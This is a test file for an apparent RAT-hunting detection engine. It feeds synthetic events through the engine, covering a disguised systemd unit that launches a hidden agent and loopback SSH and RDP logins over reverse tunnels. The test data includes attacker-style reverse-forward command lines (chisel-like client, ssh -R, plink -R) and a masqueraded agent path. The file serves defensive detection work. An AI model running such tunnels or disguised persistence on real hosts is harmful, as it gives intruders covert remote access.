// The engine ties what no process tree links: a systemd unit to the agent it launches, whatever
// either is named, and a loopback login to the agent whose tunnel carried it. Plain events
// through the whole engine; each test tells one story.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { builtinCatalog } from '../../src/catalog/index.ts';
import { type ConfigInput, configSchema } from '../../src/config/schema.ts';
import { createEngine } from '../../src/engine/engine.ts';
import type { RatEvent } from '../../src/model/event.ts';
import type { Finding, StepId } from '../../src/model/finding.ts';
import {
  at,
  byTime,
  conn,
  conns,
  fileCreate,
  login,
  proc,
  unitProcess,
  unitStart,
} from '../support/events.ts';

const H = 'build03';
const L = { host: H, platform: 'linux' as const };
const AGENT = '/var/lib/.dbus/dbusd';
const UNIT = 'dbus-broker-helper.service';

function hunt(events: RatEvent[], cfg: ConfigInput = {}): Finding[] {
  const e = createEngine(configSchema.parse({ MinSteps: 2, ...cfg }), builtinCatalog());
  for (const ev of events) e.push(ev);
  return e.finish();
}
const seen = (f: Finding): StepId[] => f.steps.filter((s) => s.seen).map((s) => s.step);
const link = (f: Finding, s: StepId) => f.steps.find((x) => x.step === s)?.link ?? '';
const withImage = (fs: Finding[], image: string) => fs.filter((f) => f.agent.images.includes(image));

/** An operator's session: a login shell, sudo, and what it runs. */
function session(n: string, minute: number, cmds: Array<[string, string]>): RatEvent[] {
  const out: RatEvent[] = [
    proc({ ...L, pid: 700, image: '/usr/bin/bash', commandLine: '-bash', at: at(minute), session: n }),
  ];
  cmds.forEach(([image, commandLine], i) => {
    out.push(
      proc({
        ...L,
        pid: 710 + 2 * i,
        parentPid: 700,
        image: '/usr/bin/sudo',
        commandLine: `sudo ${commandLine}`,
        at: at(minute, 10 + 10 * i),
        session: n,
      }),
      proc({
        ...L,
        pid: 711 + 2 * i,
        parentPid: 710 + 2 * i,
        image,
        commandLine,
        at: at(minute, 11 + 10 * i),
        session: n,
      }),
    );
  });
  return out;
}

/** An operator writes the unit with sudo tee in login session 12, nothing installed first. */
function teeWritesUnit(): RatEvent[] {
  return [
    ...session('12', 0, [['/usr/bin/tee', `tee /etc/systemd/system/${UNIT}`]]),
    fileCreate({ ...L, pid: 711, image: '/usr/bin/tee', path: `/etc/systemd/system/${UNIT}`, at: at(0, 12) }),
  ];
}

/** The agent as PID 1 starts it, beaconing and spawning a shell. */
function agentRuns(minute: number, pid = 900): RatEvent[] {
  return [
    proc({
      ...L,
      pid,
      parentPid: 1,
      image: AGENT,
      commandLine: `${AGENT} -c /var/lib/.dbus/conf`,
      at: at(minute),
    }),
    ...conns({ ...L, pid, image: AGENT, dstIp: '203.0.113.150', dstPort: 8443, n: 6, at: at(minute, 5) }),
    proc({
      ...L,
      pid: pid + 1,
      parentPid: pid,
      image: '/usr/bin/dash',
      commandLine: '/bin/sh -c id',
      at: at(minute + 3),
    }),
  ];
}

describe('a unit belongs to the agent it launches', () => {
  test('written with tee under sudo in the session that installed the binary: one four-step chain', () => {
    const events = byTime(
      session('12', 0, [
        ['/usr/bin/install', `install -D -m 0755 /tmp/dbusd ${AGENT}`],
        ['/usr/bin/tee', `tee /etc/systemd/system/${UNIT}`],
      ]),
      fileCreate({
        ...L,
        pid: 713,
        image: '/usr/bin/tee',
        path: `/etc/systemd/system/${UNIT}`,
        at: at(0, 22),
      }),
      agentRuns(1),
    );
    const fs = hunt(events);
    const [f, ...others] = withImage(fs, AGENT);
    assert.equal(others.length, 0);
    assert.deepEqual(seen(f), ['execution', 'persistence', 'egress', 'control']);
    assert.match(
      link(f, 'persistence'),
      /tee under sudo made it in login session 12, the session that installed \/var\/lib\/\.dbus\/dbusd/,
    );
    // the operator's shell is no agent of this chain, and makes no chain of its own
    assert.equal(withImage(fs, '/usr/bin/bash').length, 0);
  });

  test("the unit started and PID 1 started a program seconds later: the unit is that program's", () => {
    const events = byTime(
      teeWritesUnit(),
      unitStart({ ...L, unit: UNIT, action: 'starting', at: at(1) - 30 }),
      unitStart({ ...L, unit: UNIT, at: at(1) + 40 }),
      agentRuns(1),
    );
    const [f] = withImage(hunt(events), AGENT);
    assert.ok(seen(f).includes('persistence'));
    assert.match(
      link(f, 'persistence'),
      /unit dbus-broker-helper\.service started and PID 1 started \/var\/lib\/\.dbus\/dbusd 30 ms later/,
    );
  });

  test('journald says the program runs in the unit: the unit is its', () => {
    const events = byTime(
      teeWritesUnit(),
      agentRuns(2),
      unitProcess({ ...L, unit: UNIT, pid: 900, image: AGENT, at: at(2, 1) }),
    );
    const [f] = withImage(hunt(events), AGENT);
    assert.match(
      link(f, 'persistence'),
      /journald: \/var\/lib\/\.dbus\/dbusd runs in dbus-broker-helper\.service \(_SYSTEMD_UNIT\)/,
    );
  });

  test('units starting together (boot) tie nothing; a service restart nobody installed makes no agent', () => {
    const events = byTime(
      teeWritesUnit(),
      unitStart({ ...L, unit: UNIT, at: at(1) }),
      unitStart({ ...L, unit: 'nginx.service', at: at(1) + 500 }),
      agentRuns(1),
      unitStart({ ...L, unit: 'prometheus-node-exporter.service', at: at(5) }),
      proc({ ...L, pid: 950, parentPid: 1, image: '/usr/bin/prometheus-node-exporter', at: at(5) + 20 }),
    );
    const fs = hunt(events);
    const [f] = withImage(fs, AGENT);
    assert.ok(!seen(f).includes('persistence'), link(f, 'persistence'));
    assert.equal(withImage(fs, '/usr/bin/prometheus-node-exporter').length, 0);
  });
});

describe("a loopback login through the agent's tunnel: its shells are the agent's", () => {
  const TUN = '/var/tmp/.cache/kworker-sync';
  const tunnel = (cmd: string): RatEvent[] => [
    proc({ ...L, pid: 8802, parentPid: 8793, image: TUN, commandLine: `${TUN} ${cmd}`, at: at(0) }),
    conn({ ...L, pid: 8802, image: TUN, dstIp: '203.0.113.60', dstPort: 443, at: at(0, 1) }),
  ];
  const shells = (
    pid: number,
    parentPid: number,
    minute: number,
    user = 'backup',
    session?: string,
  ): RatEvent[] => [
    proc({
      ...L,
      pid,
      parentPid,
      parentImage: '/usr/sbin/sshd',
      image: '/usr/bin/bash',
      commandLine: '-bash',
      user,
      session,
      at: at(minute),
    }),
    proc({
      ...L,
      pid: pid + 1,
      parentPid: pid,
      image: '/usr/bin/id',
      commandLine: 'id',
      user,
      session,
      at: at(minute, 5),
    }),
  ];

  test("the login used the source port of the agent's own connection to 127.0.0.1:22", () => {
    const events = byTime(
      tunnel('client https://203.0.113.60:443 R:2222:127.0.0.1:22'),
      conn({
        ...L,
        pid: 8802,
        image: TUN,
        srcIp: '127.0.0.1',
        srcPort: 38412,
        dstIp: '127.0.0.1',
        dstPort: 22,
        at: at(3),
      }),
      login({ ...L, user: 'backup', srcIp: '127.0.0.1', srcPort: 38412, pid: 8810, at: at(3, 3) }),
      shells(8812, 8810, 3.06),
      // a monitoring check logs in with its own ssh client meanwhile: not the tunnel's
      proc({
        ...L,
        pid: 9202,
        parentPid: 9201,
        image: '/usr/bin/ssh',
        commandLine: 'ssh monitor@127.0.0.1 check',
        at: at(4),
      }),
      conn({
        ...L,
        pid: 9202,
        image: '/usr/bin/ssh',
        srcIp: '127.0.0.1',
        srcPort: 46120,
        dstIp: '127.0.0.1',
        dstPort: 22,
        at: at(4) + 10,
      }),
      login({ ...L, user: 'monitor', srcIp: '127.0.0.1', srcPort: 46120, pid: 9203, at: at(4) + 200 }),
      shells(9205, 9204, 4.01, 'monitor'),
    );
    const fs = hunt(events);
    const [f] = withImage(fs, TUN);
    assert.deepEqual(seen(f), ['execution', 'egress', 'control']);
    assert.match(
      link(f, 'control'),
      /sshd login from 127\.0\.0\.1:38412 came over kworker-sync's own connection to port 22/,
    );
    const control = f.steps.find((s) => s.step === 'control')!;
    assert.ok(
      control.evidence.every((e) => e.process?.user !== 'monitor'),
      "the monitor check is not the agent's",
    );
  });

  test('by session, with only the reverse forward in the arguments (auditd: ses=, no ports)', () => {
    const events = byTime(
      tunnel('-N -R 2222:localhost:22 relay@203.0.113.60'),
      login({ ...L, user: 'backup', srcIp: '::1', pid: 8810, session: '57', at: at(3) }),
      shells(8812, 8811, 3.01, 'backup', '57'),
    );
    const [f] = withImage(hunt(events), TUN);
    assert.ok(seen(f).includes('control'));
    assert.match(link(f, 'control'), /reverse forward -R 2222:localhost:22 to port 22 was up/);
  });

  test('RDP: a type 10 logon from loopback while plink forwards to 3389; processes in that logon session', () => {
    const W = { host: 'PC02', platform: 'windows' as const };
    const PLINK = 'C:\\Users\\IEUser\\Downloads\\plink.exe';
    const events = byTime(
      proc({
        ...W,
        guid: 'P',
        image: PLINK,
        commandLine: `${PLINK} 10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389`,
        at: at(0),
      }),
      conn({ ...W, guid: 'P', image: PLINK, dstIp: '198.51.100.18', dstPort: 80, at: at(0, 2) }),
      login({
        ...W,
        user: 'PC02\\IEUser',
        srcIp: '127.0.0.1',
        srcPort: 49164,
        service: 'rdp',
        session: '0x45120',
        at: at(2),
      }),
      proc({
        ...W,
        guid: 'C',
        parentGuid: 'X',
        parentImage: 'C:\\Windows\\explorer.exe',
        image: 'C:\\Windows\\System32\\cmd.exe',
        session: '0x45120',
        at: at(3),
      }),
    );
    const [f] = withImage(hunt(events), PLINK);
    assert.ok(seen(f).includes('control'));
    assert.match(
      link(f, 'control'),
      /rdp login from 127\.0\.0\.1:49164 arrived while plink\.exe's reverse forward -R 127\.0\.0\.3:4444:127\.0\.0\.2:3389/,
    );
  });

  test("an admin's -L forward and a forward to a web port carry no login", () => {
    const events = byTime(
      proc({
        ...L,
        pid: 9120,
        image: '/usr/bin/ssh',
        commandLine: 'ssh -f -N -L 15432:10.0.5.20:5432 ops@bastion',
        at: at(0),
      }),
      conn({ ...L, pid: 9120, image: '/usr/bin/ssh', dstIp: '203.0.113.10', dstPort: 22, at: at(0, 1) }),
      proc({
        ...L,
        pid: 9140,
        image: '/usr/bin/ssh',
        commandLine: 'ssh -N -R 8080:localhost:3000 ops@demo',
        at: at(1),
      }),
      conn({ ...L, pid: 9140, image: '/usr/bin/ssh', dstIp: '198.51.100.90', dstPort: 22, at: at(1, 1) }),
      login({ ...L, user: 'monitor', srcIp: '127.0.0.1', pid: 9203, at: at(4) }),
      shells(9205, 9204, 4.01, 'monitor'),
    );
    const fs = hunt(events);
    assert.ok(
      fs.every((f) => !seen(f).includes('control')),
      fs.map((f) => f.title).join('; '),
    );
  });
});
